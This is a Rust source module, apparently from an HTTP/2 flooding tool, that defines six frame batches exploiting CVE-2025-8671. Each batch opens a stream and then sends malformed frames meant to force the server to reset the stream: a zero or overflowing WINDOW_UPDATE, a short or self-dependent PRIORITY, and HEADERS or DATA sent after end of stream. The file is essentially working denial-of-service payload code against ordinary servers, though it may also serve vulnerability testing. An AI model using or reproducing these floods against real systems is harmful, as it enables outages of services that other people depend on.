//! Frames that make the server reset an open call: the six ways of CVE-2025-8671.

use super::batch::{Batch, ITSELF, message, open_call};
use super::flood::{Flood, of_frames};
use hashlane_http2_frames::{WINDOW_BYTES_MAX, flag, frame, kind, priority, window_update};

pub(super) static RESETS: [Flood; 6] = [
    of_frames("reset-zero", "calls whose window is opened by 0", || {
        Batch::of_calls(&[open_call(), window_update(0, 0)])
    }),
    of_frames(
        "reset-overflow",
        "calls whose window is opened too far",
        || {
            let update = window_update(0, WINDOW_BYTES_MAX);
            Batch::of_calls(&[open_call(), update.clone(), update])
        },
    ),
    of_frames("reset-short", "calls with a PRIORITY of 4 bytes", || {
        Batch::of_calls(&[open_call(), frame(kind::PRIORITY, 0, 0, &[0; 4])])
    }),
    of_frames(
        "reset-itself",
        "calls with a PRIORITY that depends on itself",
        || Batch::of_calls(&[open_call(), priority(0, ITSELF, 0)]),
    ),
    of_frames(
        "reset-headers",
        "calls with HEADERS after their end",
        || Batch::of_calls(&[open_call(), last_data(), open_call()]),
    ),
    of_frames("reset-data", "calls with DATA after their end", || {
        Batch::of_calls(&[open_call(), last_data(), frame(kind::DATA, 0, 0, b"more")])
    }),
];

fn last_data() -> Vec<u8> {
    frame(kind::DATA, flag::END_STREAM, 0, &message(1, true))
}
